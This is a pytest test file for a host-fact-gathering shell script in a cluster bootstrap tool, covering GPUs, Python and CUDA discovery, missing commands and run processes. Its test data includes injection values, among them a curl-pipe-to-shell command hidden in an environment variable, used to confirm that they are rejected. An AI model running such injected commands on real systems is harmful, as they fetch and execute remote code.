"""First contact: the script that asks for facts, in real shells, on machines that lack things."""

from __future__ import annotations

import contextlib
import os
import pwd
import re
import shutil
import signal
import subprocess
import sys
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest

from bootstrap.facts import host as facts_host
from bootstrap.facts.host import FACTS, parse, script
from bootstrap.ssh.session import OPEN

# Every program that the script may call. Where one is missing, the others' facts still stand.
COMMANDS = ["cat", "date", "df", "grep", "id", "ip", "ls", "sed"]
COMMANDS += ["sudo", "tail", "tr", "uname", "apt-get", "g++"]
COMMANDS += ["mpicxx", "mpirun", "nvidia-smi", "nvcc", "python3", "python3.11", "ssh", "ssh-keygen"]
COMMANDS += ["cloud-init", "dpkg", "dpkg-query", "mokutil", "readlink", "timeout"]


def ask(shell: list[str], home: Path, path: str, **variables: str) -> str:
    """What the script prints in a shell, with nothing on stderr."""
    environment = {"HOME": str(home), "PATH": path, **variables}
    process = subprocess.run(
        [*shell, "-c", script()], env=environment, cwd=home, capture_output=True, text=True
    )
    assert process.stderr == ""
    return process.stdout


def test_every_posix_shell_answers_every_fact(shell: list[str], home: Path) -> None:
    facts = parse(ask(shell, home, os.defpath, SSH_CONNECTION="::1 50000 ::1 22"))
    assert facts.home == str(home)
    assert facts.boot_id == Path("/proc/sys/kernel/random/boot_id").read_text().strip()
    assert facts.memory > 0 and facts.disk_free > 0
    assert (facts.user, facts.root) == (pwd.getpwuid(os.geteuid()).pw_name, os.geteuid() == 0)
    assert facts.system.kernel == os.uname().release and facts.system.disks["/"] > 0
    assert facts.inside == ("::1", 22)
    assert (facts.envs, facts.uvs, facts.authorized) == (frozenset(), frozenset(), frozenset())


def test_the_facts_leave_the_shell_as_it_was(shell: list[str], home: Path) -> None:
    """The next commands of the session run in it."""
    state = "pwd; set | grep -vE '^(_|PPID|LINENO|BASH_.*|PIPESTATUS|RANDOM|SECONDS|EPOCH.*)='"
    whole = f"{state}; echo @; {script()} >&2; echo @; {state}; echo @"
    done = subprocess.run([*shell, "-c", whole], cwd=home, capture_output=True, text=True)
    before, _, after, _ = done.stdout.split("@\n")
    assert before == after


def test_a_fact_changes_neither_the_folder_nor_the_arguments_of_the_next(
    shell: list[str], home: Path
) -> None:
    for name, (command, _) in FACTS.items():
        whole = f"set -- a b; {facts_host._grouped(command)} >&2; pwd; echo $*"
        done = subprocess.run([*shell, "-c", whole], cwd=home, capture_output=True, text=True)
        assert done.stdout == f"{home}\na b\n", name


def test_what_is_under_the_home_is_found(shell: list[str], home: Path) -> None:
    made = {
        ".railhead/envs/aa11/.ok": "aa11",
        ".railhead/envs/unfinished/pyvenv.cfg": "",
        ".railhead/envs/of-a-power-cut/.ok": "",
        ".railhead/uv/bb22/uv": "#!/bin/sh\n",
        ".railhead/uv/empty-file/uv": "",
        ".railhead/uv/not-executable/uv": "#!/bin/sh\n",
        ".railhead/uv/no-file/uv/file": "",
        ".railhead/cluster/key": "",
        ".railhead/cluster/key.pub": "ssh-ed25519 AAAA railhead\n",
        ".ssh/authorized_keys": "ssh-rsa BBBB me\nrestrict ssh-ed25519 AAAA railhead:c\n",
    }
    lay(home, made)
    (home / ".railhead/uv/left-by-a-broken-transfer").mkdir()
    for name in ("bb22", "empty-file"):
        (home / f".railhead/uv/{name}/uv").chmod(0o755)
    facts = parse(ask(shell, home, os.defpath))
    assert facts.envs == {"aa11"}
    assert facts.uvs == {"bb22"}
    assert facts.cluster_key == "ssh-ed25519 AAAA railhead"
    assert facts.authorized == {"restrict ssh-ed25519 AAAA railhead:c"}


PROCESSES: dict[str, tuple[dict[str, str], bool]] = {  # variables, and whether it is of a run
    "a run's": ({"RAILHEAD_RUN": "20261121-101500-3f2a"}, True),
    "after a backslash": ({"A": r"x\cy\n", "RAILHEAD_RUN": "20261121-101500-3f2a"}, True),
    "after a newline": ({"A": "x\nRAILHEAD_RUN=later", "RAILHEAD_RUN": "earlier"}, True),
    "a standby's": ({"RAILHEAD_STANDBY": "20261121-101500-3f2a"}, False),
    "of no run": ({"RAILHEAD_RUN": ""}, False),
    "another's": ({"NOT_RAILHEAD_RUN": "x"}, False),
    "their home": ({"RAILHEAD_RUN": "x", "RAILHEAD_HOME": "/elsewhere"}, False),
    "a command": ({"RAILHEAD_RUN": "x;curl${IFS}example.invalid|sh;"}, False),
    "a substitution": ({"RAILHEAD_RUN": "$(id)"}, False),
    "a path": ({"RAILHEAD_RUN": "../x"}, False),
}


@pytest.fixture
def processes(home: Path) -> Iterator[dict[str, int]]:
    """One process with each of these variables, in a home whose name has a space; its pid."""
    here = home / "with a space"
    here.mkdir()
    with contextlib.ExitStack() as stack:
        pids = {}
        for name, (variables, _) in PROCESSES.items():
            env = {"RAILHEAD_HOME": str(here), **variables}
            process = stack.enter_context(subprocess.Popen(["/bin/sleep", "60"], env=env))
            stack.callback(process.kill)
            pids[name] = process.pid
        yield pids


def test_a_process_of_a_run_is_known_by_its_environment(
    shell: list[str], home: Path, processes: dict[str, int]
) -> None:
    here = str(home / "with a space")
    read = read_fact(shell, "run_processes", HOME=here)
    ids = {process.pid: process.run_id for process in read}
    of_runs = {name for name, pid in processes.items() if pid in ids}
    assert of_runs == {name for name, (_, of_run) in PROCESSES.items() if of_run}
    assert {process.home for process in read} == {here} and len(read) == len(of_runs)
    for name in ("a run's", "after a backslash"):
        assert ids[processes[name]] == "20261121-101500-3f2a"
    assert read_fact(shell, "standbys", HOME=here) == {"20261121-101500-3f2a"}


@pytest.mark.root
def test_a_process_of_another_user_makes_no_host_busy(shell: list[str], home: Path) -> None:
    """root, as whom many log in, can read its environment."""
    variables = {"RAILHEAD_RUN": "20261121-101500-3f2a", "RAILHEAD_HOME": str(home)}
    with subprocess.Popen(["/bin/sleep", "60"], env=variables, user="nobody") as process:
        try:
            assert read_fact(shell, "run_processes", HOME=str(home)) == ()
        finally:
            process.kill()


def read_fact(shell: list[str], name: str, **variables: str) -> Any:
    """One fact of this machine."""
    command, parser = FACTS[name]
    argv = [*shell, "-c", command]
    env = {"PATH": os.defpath, **variables}
    process = subprocess.run(argv, env=env, capture_output=True, text=True)
    return parser(process.stdout)


def tools(folder: Path, without: str) -> str:
    """A folder for PATH with every program of the script but one."""
    folder.mkdir()
    for name in COMMANDS:
        real = shutil.which(name, path=os.defpath)
        if name != without and real:
            (folder / name).symlink_to(real)
    return str(folder)


@pytest.mark.parametrize("missing", COMMANDS)
def test_a_host_may_lack_any_command(
    home: Path, tmp_path: Path, missing: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Of all facts those are read that use it: each is read in its own shell."""
    word = re.compile(rf"(?<![\w-]){re.escape(missing)}(?![\w-])")
    affected = {name: both for name, both in FACTS.items() if word.search(both[0])}
    monkeypatch.setattr(facts_host, "FACTS", {"home": FACTS["home"], **affected})
    output = ask(["/bin/sh"], home, tools(tmp_path / "bin", missing))
    sections = re.split(r"^@fact (\w+)\n", output, flags=re.MULTILINE)
    outputs = dict(zip(sections[1::2], sections[2::2], strict=True))
    assert {"home", *affected} <= {*outputs} and outputs["home"].strip() == str(home)
    for name, (_, parser) in affected.items():
        parser(outputs[name])


def test_a_host_may_lack_every_command(shell: list[str], home: Path, tmp_path: Path) -> None:
    facts = parse(ask(shell, home, str(tmp_path)))
    assert (facts.home, facts.tools) == (str(home), {})
    assert {*facts.pythons.values()} <= {"/usr/bin/python3"}  # looked up by its path


def answer(shell: list[str], fact: str, root: Path, path: str = os.defpath) -> Any:
    """One fact, read on a machine whose /sys, /proc, /dev and /usr/local are below `root`."""
    command, parser = FACTS[fact]
    for top in ("sys/bus", "proc", "dev/nvidia", "usr/bin", "usr/lib", "usr/local"):
        command = command.replace(f"/{top}", f"{root}/{top}")
    argv = [*shell, "-c", f"( {command}\n) 2>/dev/null"]
    process = subprocess.run(
        argv, env={"PATH": path, "HOME": str(root)}, capture_output=True, text=True
    )
    return parser(process.stdout)


def lay(root: Path, files: Mapping[str, str]) -> None:
    """Write files below a folder; those named bin/... can be started."""
    for name, text in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text)
        (root / name).chmod(0o755 if "bin/" in name else 0o644)


def test_cards_are_found_on_the_bus_without_a_driver(shell: list[str], tmp_path: Path) -> None:
    devices = {
        "00:1e.0": "10de 0302 1eb8",
        "00:1f.0": "10de 0300 1db1",
        "00:05.0": "1d0f 0200 ec20",
    }
    devices |= {"00:06.0": "10de 0403 10f8", "00:07.0": "10de 0680 1af1"}  # sound, a switch
    for bus, numbers in devices.items():
        vendor, kind, device = numbers.split()
        folder = f"sys/bus/pci/devices/0000:{bus}"
        values = {"vendor": f"0x{vendor}\n", "class": f"0x{kind}00\n", "device": f"0x{device}\n"}
        lay(tmp_path / folder, values)
    cards = answer(shell, "cards", tmp_path)
    assert [(c.bus, c.name) for c in cards] == [
        ("0000:00:1e.0", "Tesla T4"),
        ("0000:00:1f.0", "Tesla V100-SXM2-16GB"),
    ]


def test_processes_that_use_a_card_are_found(shell: list[str], tmp_path: Path) -> None:
    lay(
        tmp_path, {f"proc/{pid}/comm": f"{name}\n" for pid, name in (("7", "bash"), ("4711", "py"))}
    )
    lay(tmp_path, {"dev/nvidiactl": "", "dev/nvidia0": ""})
    for pid, opened in (("7", "null"), ("4711", "nvidia0")):
        (tmp_path / f"proc/{pid}/fd").mkdir()
        (tmp_path / f"proc/{pid}/fd/0").symlink_to("/dev/null")
        (tmp_path / f"proc/{pid}/fd/5").symlink_to(f"{tmp_path}/dev/{opened}")
    assert answer(shell, "users", tmp_path) == ("4711 py",)
    (tmp_path / "dev/nvidiactl").unlink()
    assert answer(shell, "users", tmp_path) == ()


@pytest.mark.parametrize(
    ("body", "names", "output"),
    [
        ("echo Tesla T4", ("Tesla T4",), ""),
        ("echo Failed to initialize NVML; exit 18", (), "Failed to initialize NVML"),
        ("echo libnvidia-ml.so.1: not found >&2; exit 127", (), "libnvidia-ml.so.1: not found"),
        ("exit 6", (), "nvidia-smi prints nothing, or not in time"),
    ],
)
def test_a_host_whose_driver_fails_has_no_gpu(
    shell: list[str], tmp_path: Path, body: str, names: tuple[str, ...], output: str
) -> None:
    lay(tmp_path, {"bin/nvidia-smi": f"#!/bin/sh\n{body}\n"})
    path = f"{tmp_path}/bin:{os.defpath}"
    assert answer(shell, "gpus", tmp_path, path) == names
    assert answer(shell, "smi", tmp_path, path) == output


def test_an_nvidia_smi_that_nothing_ends_leaves_the_other_facts_in_time(
    shell: list[str], tmp_path: Path
) -> None:
    """As on a card that has failed: the kernel ends it at no signal."""
    hangs = f"#!/bin/sh\ntrap '' TERM\necho $$ >{tmp_path}/pid\nexec sleep 60\n"
    lay(tmp_path, {"bin/nvidia-smi": hangs})
    command, parser = FACTS["smi"]
    command = command.replace("within 35", "within 1").replace("within 45", "within 1.5")
    argv = [*shell, "-c", f"( {command}\n) 2>/dev/null"]
    path = f"{tmp_path}/bin:{os.defpath}"
    process = subprocess.run(argv, env={"PATH": path}, capture_output=True, text=True, timeout=30)
    os.kill(int((tmp_path / "pid").read_text()), signal.SIGKILL)  # it was still there
    assert parser(process.stdout) == "nvidia-smi prints nothing, or not in time"


def test_all_facts_start_nvidia_smi_once_and_within_their_own_bound(
    shell: list[str], home: Path, tmp_path: Path
) -> None:
    lay(tmp_path, {"bin/nvidia-smi": f"#!/bin/sh\necho . >>{tmp_path}/started; echo Tesla T4\n"})
    facts = parse(ask(shell, home, f"{tmp_path}/bin:{os.defpath}"))
    assert (facts.gpus, facts.gpu.smi) == (("Tesla T4",), "")
    assert (tmp_path / "started").read_text() == ".\n"
    longest = max(int(seconds) for seconds in re.findall(r"within (\d+)", script()))
    assert longest + 10 < OPEN.seconds


def test_toolkits_with_a_compiler_are_found(shell: list[str], tmp_path: Path) -> None:
    expected = "#!/bin/sh\necho 'Cuda compilation tools, release 12.8, V12.8.93'\n"
    lay(tmp_path, {"usr/local/cuda-12.8/bin/nvcc": expected, "usr/local/cuda-13.0/README": ""})
    (tmp_path / "usr/local/cuda").symlink_to("cuda-12.8")
    assert answer(shell, "cuda", tmp_path) == {"12.8": f"{tmp_path}/usr/local/cuda-12.8"}


def test_a_python_with_two_names_is_started_once(shell: list[str], tmp_path: Path) -> None:
    start = f"#!/bin/sh\necho . >>{tmp_path}/started; echo"
    lay(tmp_path, {f"bin/python{v}": f"{start} {v}\n" for v in ("3.11", "3.10")})
    (tmp_path / "bin/python3").symlink_to("python3.11")
    pythons = answer(shell, "pythons", tmp_path, f"{tmp_path}/bin")
    assert pythons == {v: f"{tmp_path}/bin/python{v}" for v in ("3.11", "3.10")}
    assert (tmp_path / "started").read_text().count(".") == 2


@pytest.mark.parametrize("has_json", [True, False])
def test_a_python_of_the_system_is_started_only_where_its_json_is_missing(
    shell: list[str], tmp_path: Path, has_json: bool
) -> None:
    starts = f"#!/bin/sh\necho . >>{tmp_path}/started; exit 1\n"
    lay(tmp_path, {"usr/bin/python3.11": starts, "usr/lib/python3.11/os.py": ""})
    if has_json:
        lay(tmp_path, {"usr/lib/python3.11/json/__init__.py": ""})
    path = f"{tmp_path}/usr/bin"
    pythons = answer(shell, "pythons", tmp_path, path)
    assert pythons == ({"3.11": f"{path}/python3.11"} if has_json else {})
    assert (tmp_path / "started").exists() is not has_json


def test_a_name_of_a_dispatcher_that_fails_hides_no_other_name(
    shell: list[str], tmp_path: Path
) -> None:
    """Version managers link all names to one program, which fails for versions that are off."""
    dispatcher = "case $0 in *3.11) exit 1;; *) echo 3.12;; esac"
    lay(tmp_path, {"bin/dispatcher": f"#!/bin/sh\n{dispatcher}\n"})
    for name in ("python3.11", "python3.12", "python3"):
        (tmp_path / "bin" / name).symlink_to("dispatcher")
    path = f"{tmp_path}/bin:{os.defpath}"
    assert answer(shell, "pythons", tmp_path, path)["3.12"] == f"{tmp_path}/bin/python3.12"


@pytest.mark.parametrize("missing", ["json", "_ctypes"])
def test_a_python_without_a_module_that_is_needed_does_not_count(
    shell: list[str], tmp_path: Path, missing: str
) -> None:
    """The system's own counts, also where its name is that of such a one."""
    hidden = (
        "from importlib.machinery import PathFinder as Finder; find = Finder.find_spec; "
        f"Finder.find_spec = lambda name: None if name == '{missing}' else find(name); "
        "import sys; sys.builtin_module_names = ();"
    )
    start = f'#!/bin/sh\nexec {sys.executable} -I -c "{hidden}$5"\n'
    lay(tmp_path, {"bin/python3.12": start, "bin/python3": start})
    lay(tmp_path, {"usr/bin/python3": f'#!/bin/sh\nexec {sys.executable} "$@"\n'})
    version = f"{sys.version_info[0]}.{sys.version_info[1]}"
    pythons = answer(shell, "pythons", tmp_path, f"{tmp_path}/bin")
    assert pythons == {version: f"{tmp_path}/usr/bin/python3"}


@pytest.mark.parametrize(("vendor", "count"), [("10de", True), ("1d0f", False)])
def test_packages_are_read_where_there_is_a_card(
    shell: list[str], tmp_path: Path, vendor: str, count: bool
) -> None:
    for number, vendor_id in enumerate(("8086", vendor, "1af4")):
        lay(tmp_path / f"sys/bus/pci/devices/0000:00:0{number}.0", {"vendor": f"0x{vendor_id}\n"})
    query = "#!/bin/sh\necho installed linux-image 6.1\necho hold nvidia-driver\n"
    lay(tmp_path, {"bin/dpkg-query": query})
    path = f"{tmp_path}/bin:{os.defpath}"
    assert bool(answer(shell, "packages", tmp_path, path)) is count
    assert bool(answer(shell, "held", tmp_path, path)) is count


def test_processes_that_lock_apt_are_found(shell: list[str], tmp_path: Path) -> None:
    waits = "/usr/bin/python3 /usr/share/unattended-upgrades/unattended-upgrade-shutdown"
    for pid, name, text in (
        ("1", "systemd", ""),
        ("8", "unattended-upgr", waits),
        ("9", "dpkg", ""),
    ):
        lay(tmp_path / f"proc/{pid}", {"comm": f"{name}\n", "cmdline": text.replace(" ", "\0")})
    assert answer(shell, "apt_busy", tmp_path) == ("dpkg",)


def state(folder: Path) -> Mapping[str, tuple[int, int, bytes]]:
    """Every file below a folder: its change time, mode and content."""
    return {
        str(p): (p.stat().st_ctime_ns, p.stat().st_mode, p.read_bytes() if p.is_file() else b"")
        for p in [folder, *folder.rglob("*")]
    }


def test_querying_writes_nothing(shell: list[str], home: Path) -> None:
    (home / ".railhead/envs/aa11").mkdir(parents=True)
    (home / ".railhead/envs/aa11/.ok").touch()
    before = state(home)
    ask(shell, home, os.defpath, TMPDIR=str(home))
    assert state(home) == before


def test_the_script_redirects_to_nowhere_but_dev_null() -> None:
    assert set(re.findall(r">+\s*(&?[^\s)]+)", script())) == {"/dev/null", "&1"}
    assert " -B " in script(), "a Python would write bytecode beside its library"


def test_a_command_that_reads_its_input_takes_nothing_of_the_channel(home: Path) -> None:
    greedy = home / "id"
    greedy.write_text("#!/bin/sh\ncat\n")
    greedy.chmod(0o755)
    process = subprocess.run(
        ["/bin/sh", "-c", f"{script()}\ncat"],
        input="what comes after",
        env={"HOME": str(home), "PATH": f"{home}:{os.defpath}"},
        capture_output=True,
        text=True,
    )
    assert process.stdout.endswith("what comes after")
